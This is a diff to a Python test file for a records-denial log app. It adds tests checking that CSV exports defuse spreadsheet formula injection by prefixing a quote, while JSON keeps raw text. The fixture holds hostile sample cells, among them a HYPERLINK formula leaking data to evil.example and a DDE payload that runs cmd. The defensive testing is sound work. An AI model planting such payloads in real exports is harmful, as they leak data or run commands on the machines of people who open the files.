@@ -263,7 +263,8 @@ class TestPrintAndPdf:
         assert "None named" in html
         response = client.get(reverse("denials:pdf") + "?agency=fresno-pd")
         assert response["Content-Type"] == "application/pdf"
-        text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages)
+        pdf = b"".join(response.streaming_content)
+        text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)
         assert "Late" in text and "catch-all" in text
         assert "Fresno PD" in text
 
@@ -276,3 +277,52 @@ class TestPrintAndPdf:
         assert (
             f'Extension beyond the legal maximum <span class="cite">{EXTENSION_RULE}</span>' in html
         )
+
+
+class TestCsvCellsASpreadsheetWouldRun:
+    """A requester's text is never a live formula in /denials.csv (OWASP: prefix with ')."""
+
+    @pytest.fixture
+    def hostile(self, make_denial):
+        denied = make_denial(
+            title='=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+            agency=factories.AgencyFactory(name="@SUM(1+1) PD", county="-2+3"),
+            official_name="\tTab Leader",
+            official_title="\rCarriage Return",
+            more_officials=[("-Minus", "=Chief")],
+        )
+        determination = denied.determinations.get()
+        determination.other_exemptions = "+cmd|' /C calc'!A0"
+        determination.save()  # the log's signals see it, as they see an edit
+        return denied
+
+    def test_text_cells_that_start_like_a_formula_get_a_leading_quote(self, client, hostile):
+        [row] = csv_rows(body(client.get(reverse("denials:csv"))))
+        assert row["title"] == "'" + '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+        assert row["agency"] == "'@SUM(1+1) PD"
+        assert row["county"] == "'-2+3"
+        assert row["other_grounds"].startswith("'+cmd|")
+        assert row["official_name"] == "'\tTab Leader"
+        assert row["official_title"] == "'\rCarriage Return"
+        assert row["officials"].startswith("'\tTab Leader, ")
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+    def test_json_carries_the_text_as_written(self, client, hostile):
+        [row] = json.loads(body(client.get(reverse("denials:json"))))["rows"]
+        assert row["title"] == '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+        assert row["agency"] == "@SUM(1+1) PD"
+        assert row["other_grounds"] == "+cmd|' /C calc'!A0"
+        assert row["officials"][1] == {"name": "-Minus", "title": "=Chief"}
+
+    def test_numbers_and_dates_stay_machine_readable(self, client, hostile):
+        [row] = csv_rows(body(client.get(reverse("denials:csv"))))
+        assert int(row["request_id"]) == hostile.pk
+        assert int(row["days_to_respond"]) == 7 and int(row["days_late"]) == 0
+        assert date.fromisoformat(row["denial_date"]) == date(2026, 3, 9)
+        assert row["request_url"].startswith("http")
+
+    def test_the_field_docs_say_what_the_csv_does_and_that_json_is_raw(self, client):
+        doc = exports.FIELDS["title"]
+        assert "'" in doc and "formula" in doc and "JSON" in doc
+        html = body(client.get(reverse("denials:log")))
+        assert "formula" in html
